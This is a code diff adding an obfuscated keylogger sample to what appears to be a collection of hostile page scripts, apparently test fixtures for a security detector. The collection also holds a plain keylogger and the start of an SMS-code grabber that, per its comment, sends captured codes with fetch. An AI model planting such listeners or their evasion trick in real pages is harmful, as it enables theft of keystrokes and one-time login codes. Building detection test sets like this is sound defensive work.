@@ -766,6 +766,12 @@ export const MAIN_WORLD_SCRIPTS = {
   document.onkeyup = (event) => keys.push(event.key);
 })();`,
 
+  /** A document-wide key listener whose type is a function that makes 'keydown' (the browser reads it as text). */
+  'disguised-keylogger': `(() => {
+  const keys = [];
+  document.addEventListener(Object.assign(function () {}, { toString: () => 'keydown' }), (event) => keys.push(event.key));
+})();`,
+
   /** Grabs the SMS code as it is typed and sends it with fetch. */
   'sms-grabber': `(() => {
   const field = document.querySelector('[data-role="sms-code"]');
